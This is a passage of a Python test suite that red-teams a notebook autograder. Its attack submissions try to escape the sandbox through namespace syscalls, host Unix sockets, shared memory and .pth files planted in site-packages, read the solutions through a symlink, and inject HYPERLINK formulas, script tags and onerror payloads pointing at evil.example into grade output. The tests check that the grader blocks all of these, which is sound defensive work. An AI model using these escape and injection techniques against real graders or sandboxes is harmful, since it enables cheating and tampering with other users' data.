    if fd >= 0 and libc.read(fd, ffi.new("char[64]"), 64) > 0:
        hits += 1
    if libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0:
        hits += 1
    if libc.kill(1, 0) == 0 and os.getpid() != 1:  # the host's init, outside any PID namespace
        hits += 1
    return hits
_HITS = _escapes()
def corr2d_batch(X, K):
    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
'''}), 10.0),
        "unix_socket": (make_submission(A1, {"corr2d_batch": HONEST_BATCH + _cffi_libc(
            "int socket(int, int, int); int connect(int, const void *, unsigned int);") + f'''
import socket
_PATHS = {unix_paths!r}
def _connected():
    hits = 0
    for path in _PATHS:
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            s.sendall(b"let me in")
            hits += 1
        except BaseException:
            pass
        try:
            ffi, libc = _libc()
            fd = libc.socket(1, 1, 0)
            raw = b"\\x01\\x00" + path.encode()
            addr = ffi.new("char[]", raw)
            if fd >= 0 and libc.connect(fd, addr, len(raw)) == 0:
                hits += 1
        except BaseException:
            pass
    return hits
_HITS = _connected()
def corr2d_batch(X, K):
    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
'''}), 10.0),
        "shared_memory": (make_submission(A1, {"corr2d_batch": HONEST_BATCH + _cffi_libc(
            "int shmget(int, size_t, int); void *shmat(int, const void *, int); int shm_open(const char *, int, ...);"
            "int semget(int, int, int); int msgget(int, int);") + f'''
def _shared():
    hits = 0
    try:
        from multiprocessing import shared_memory
        shared_memory.SharedMemory(name={marker!r}, create=True, size=4096)
        hits += 1
    except BaseException:
        pass
    try:
        with open("/dev/shm/{marker}", "wb") as fh:
            fh.write(b"left for the next student")
        hits += 1
    except BaseException:
        pass
    try:
        ffi, libc = _libc()
        if libc.shmget({p["ipc_key"]}, 4096, 0o1666) >= 0:
            hits += 1
        if libc.semget({p["ipc_key"]}, 1, 0o1666) >= 0:
            hits += 1
        if libc.msgget({p["ipc_key"]}, 0o1666) >= 0:
            hits += 1
        if libc.shm_open(b"/{marker}-cffi", 0o102, ffi.cast("int", 0o666)) >= 0:
            hits += 1
    except BaseException:
        pass
    return hits
_HITS = _shared()
def corr2d_batch(X, K):
    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
'''}), 10.0),
        "pth_in_venv": (make_submission(A1, {"corr2d_batch": HONEST_BATCH + _cffi_libc(
            "int open(const char *, int, ...);") + f'''
import os
_PTH = {os.path.join(site, marker + ".pth")!r}
_LINE = "import os; open('/tmp/{marker}-ran', 'w').write('outside the sandbox')\\n"
def _planted():
    hits = 0
    for attempt in (lambda: open(_PTH, "w").write(_LINE),
                    lambda: os.write(os.open(_PTH + "2.pth", os.O_WRONLY | os.O_CREAT, 0o644), _LINE.encode())):
        try:
            attempt()
            hits += 1
        except BaseException:
            pass
    try:
        ffi, libc = _libc()
        if libc.open((_PTH + "3.pth").encode(), 0o101, ffi.cast("int", 0o644)) >= 0:
            hits += 1
    except BaseException:
        pass
    return hits
_HITS = _planted()
def corr2d_batch(X, K):
    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
'''}), 10.0),
        # --- text that would run in the instructor's spreadsheet or browser --------------
        "output_injection": (make_submission(A1, {"corr2d_batch": f'''
def corr2d_batch(X, K):
    raise ValueError({INJECTED!r})
'''}, edit=_appended(f"raise RuntimeError({INJECTED!r})")), 7.0),
        # --- links and odd folders -------------------------------------------------------
        "links_inside": (make_submission(A1, {"corr2d_batch": read_attack("solutions.ipynb.bak", b"tensordot")}),
                         10.0 - 3.0),  # its batch task is right only if the link could be read
        "symlinked_folder": ("symlink-student", 0.0),
        "symlinked_assignment": ("symlink-assignment", 0.0),
        "huge_notebook": ("sparse-300MB", 0.0),
        "many_cells": ("cells-100000", 0.0),
        "deep_nesting": ("nested", 0.0),
        "dots..name": (make_submission(A1), 10.0),
        "new\nline": (make_submission(A1), 10.0),
        "x" * 250: (make_submission(A1), 10.0),
        os.fsdecode(b"\xff\xfe-not-utf8"): (make_submission(A1), 10.0),
        '=HYPERLINK("evil.example?"&A1,"x")': (make_submission(A1), 10.0),
        "<img src=x onerror=alert(1)>": (make_submission(A1), 10.0),
    }


INJECTED = ('=HYPERLINK("http://evil.example") <script>alert(1)</script> [click](javascript:alert(1)) '
            '![t](http://evil.example/t.png) | fake | cells |')


def _write_round2(root, attacks, p):
    for student, (what, _) in attacks.items():
        if isinstance(what, dict):
            write_submission(root, student, A1, what)
    victim = root / "honest" / A1 / f"{A1}.ipynb"
    folder = root / "links_inside" / A1
    (folder / "solutions.ipynb.bak").symlink_to(p["solutions_copy"])
    os.link(victim, folder / "victim.ipynb~")
    (root / "symlinked_folder").symlink_to(root / "honest", target_is_directory=True)
    (root / "symlinked_assignment").mkdir()
    (root / "symlinked_assignment" / A1).symlink_to(root / "honest" / A1, target_is_directory=True)
    big = root / "huge_notebook" / A1
    big.mkdir(parents=True)
    with open(big / f"{A1}.ipynb", "wb") as fh:
        fh.truncate(300 * 2**20)  # sparse: 300 MiB to the grader, nothing on disk
    nb = make_submission(A1)
    nb["cells"] += [{"cell_type": "code", "metadata": {}, "source": "", "outputs": [],
                     "execution_count": None}] * 100_000
    write_submission(root, "many_cells", A1, nb)
    write_submission(root, "deep_nesting", A1,
                     raw=b'{"cells": [], "metadata": ' + b"[" * 200_000 + b"]" * 200_000 + b"}")


class _UnixListener:
    """Listeners on a host path and an abstract name, recording what connects."""

    def __init__(self, path, abstract):
        self.accepted = []
        self.socks = []
        for address in (path, "\0" + abstract):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(address)
            s.listen(4)
            s.settimeout(0.2)
            self.socks.append(s)
        if os.path.exists(path):
            os.chmod(path, 0o777)
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop:
            for s in self.socks:
                try:
                    conn, _ = s.accept()
                    self.accepted.append(s.getsockname())
                    conn.close()
                except OSError:
                    pass

    def close(self):
        self._stop = True
        self.thread.join(timeout=2)
        for s in self.socks:
            s.close()


def _sysv_keys():
    keys = set()
    for table in ("shm", "sem", "msg"):
        try:
            lines = Path(f"/proc/sysvipc/{table}").read_text().splitlines()[1:]
        except OSError:
            continue
        keys |= {int(line.split()[0]) for line in lines if line.split()}
    return keys


@pytest.fixture(scope="module")
def round2(tmp_path_factory):
    marker = f"redteam2-{uuid.uuid4().hex[:12]}"
    root, out = tmp_path_factory.mktemp("submissions_r2"), tmp_path_factory.mktemp("out_r2")
    dbdir = tmp_path_factory.mktemp("gradebook_r2")
    site = os.path.realpath(next(p for p in sys.path if p.endswith("site-packages")))
    old_term = Path(tempfile.mkdtemp(prefix="dlcourse-old-term-", dir="/var/tmp"))
    os.chmod(old_term, 0o755)
    copy = old_term / f"{A1}.ipynb"
    shutil.copy(REPO / "solutions" / A1 / f"{A1}.ipynb", copy)
    os.chmod(copy, 0o644)
    places = ["/var/tmp", "/dev/shm", "/tmp", str(REPO), str(out), site]
    p = dict(marker=marker, site=site, solutions_copy=str(copy), places=places,
             targets=[os.path.join(d, marker) for d in places], unix_socket=f"/tmp/{marker}.sock",
             ipc_key=int(marker[-7:], 16))
    attacks = round2_attacks(p)
    _write_round2(root, attacks, p)
    listener = _UnixListener(p["unix_socket"], marker)
    keys_before = _sysv_keys()
    cmd = [sys.executable, "-m", "autograder", "grade", "--assignment", A1, "--submissions", str(root),
           "--out", str(out), "--db", f"sqlite:///{dbdir / 'gb.db'}", "--workers", "2", "--cell-timeout", "3"]
    try:
        done = subprocess.run(cmd, capture_output=True, text=True, cwd=REPO, timeout=900)
    finally:
        listener.close()
        Path(p["unix_socket"]).unlink(missing_ok=True)  # the test's own listener
    traces = sorted(str(q) for d in places + [str(old_term)] for q in Path(d).glob(f"{marker}*"))
    traces += [str(q) for q in Path(site).glob("*.pth") if marker in q.read_text(errors="replace")]
    shutil.rmtree(old_term, ignore_errors=True)
    assert done.returncode == 0, done.stderr[-3000:]
    records = {json.loads(q.read_text())["student"]: json.loads(q.read_text())
               for q in (out / A1 / "results").glob("*.json")}
    return dict(attacks=attacks, records=records, out=out, db=dbdir / "gb.db", dbdir=dbdir, traces=traces,
                listener=listener, new_ipc=_sysv_keys() - keys_before, ipc_key=p["ipc_key"],
                stdout=done.stdout, stderr=done.stderr, marker=marker)


def test_round2_every_submission_gets_exactly_its_honest_score(round2):
    want = {escape_name(s): score for s, (_, score) in round2["attacks"].items()}
    assert {s: r["score"] for s, r in round2["records"].items()} == want
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{round2['db']}", course_id="dlcourse") as gb:
        assert {s.student.id: s.score for s in gb.assignment_submissions(A1)} == want


def test_round2_the_honest_students_in_the_same_batch_keep_full_marks(round2):
    for student in ("honest", "honest_two"):
        record = round2["records"][student]
        assert record["score"] == 10 and record["notices"] == [], record


def test_round2_nothing_is_left_outside_the_box(round2):
    assert round2["traces"] == []
    assert round2["ipc_key"] not in round2["new_ipc"]
    assert round2["listener"].accepted == []
    assert not Path(f"/tmp/{round2['marker']}-ran").exists()  # no .pth ran in the grader


def test_round2_only_the_grader_writes_the_output_folder(round2):
    out, ids = round2["out"], [escape_name(s) for s in round2["attacks"]]
    expected = {A1, f"{A1}/results", f"{A1}/feedback", f"{A1}/grades.csv"}
    expected |= {f"{A1}/results/{s}.json" for s in ids} | {f"{A1}/feedback/{s}" for s in ids}
    expected |= {f"{A1}/feedback/{s}/{A1}.{ext}" for s in ids for ext in ("md", "html")}
    assert set(_tree(out)) == expected
    assert _tree(round2["dbdir"]) == ["gb.db"]


def test_round2_hangs_and_forgeries_cost_only_their_own_cells(round2):
    for student, count in (("forge_cells_done_and_hang", 2), ("ignore_sigterm", 1)):
        notices = " ".join(round2["records"][student]["notices"])
        assert notices.count("ran past its time limit") == count, notices
    notices = round2["records"]["forge_cells_done_and_hang"]["notices"]
    assert "'added-2'" in notices[-1] and "wrote to the grader's channel" in notices[-1]
    assert "forged" not in json.dumps(round2["records"]["forge_messages"])


def test_round2_refused_folders_and_notebooks_say_why(round2):
    reasons = {"symlinked_folder": "student folder is a symbolic link",
               "symlinked_assignment": "assignment folder is a symbolic link",
               "huge_notebook": "300 MiB; the limit is 20 MiB",
               "many_cells": "cells; the limit is", "deep_nesting": "nested too deeply"}
    for student, words in reasons.items():
        for task in round2["records"][student]["tasks"]:
            assert task["points"] == 0 and task["message"].startswith("could not grade: ") \
                and words in task["message"], (student, task)
    notices = " ".join(round2["records"]["links_inside"]["notices"])
    assert "Symbolic links are not followed" in notices and "solutions.ipynb.bak" in notices


def test_round2_odd_folder_names_become_safe_ids_everywhere(round2):
    with open(round2["out"] / A1 / "grades.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    students = [row[0] for row in rows[1:]]
    assert len(students) == len(round2["attacks"])
    assert not any(s[:1] in ("=", "+", "-", "@", "\t", "\r") for s in students)
    assert "'" + escape_name('=HYPERLINK("evil.example?"&A1,"x")') in students
    for name in ("new\nline", "x" * 250, os.fsdecode(b"\xff\xfe-not-utf8"), "dots..name"):
        ident = escape_name(name)
        assert ident.isprintable() and len(ident.encode()) <= 100
        assert (round2["out"] / A1 / "feedback" / ident / f"{A1}.html").is_file()
    page = (round2["out"] / A1 / "feedback" / escape_name("<img src=x onerror=alert(1)>") / f"{A1}.html").read_text()
    assert "<img src=x" not in page and "&lt;img src=x" in page
    assert escape_name("new\nline") == "new%0Aline"


def test_round2_injected_output_is_text_in_every_feedback_file(round2):
    folder = round2["out"] / A1 / "feedback" / "output_injection"
    md, page = (folder / f"{A1}.md").read_text(), (folder / f"{A1}.html").read_text()
    assert "&lt;script&gt;" in md and "<script>" not in md and "\\[click\\]" in md
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    row = next(ln for ln in md.splitlines() if ln.startswith("| `corr2d_batch`"))
    assert row.count("|") - row.count("\\|") == 4
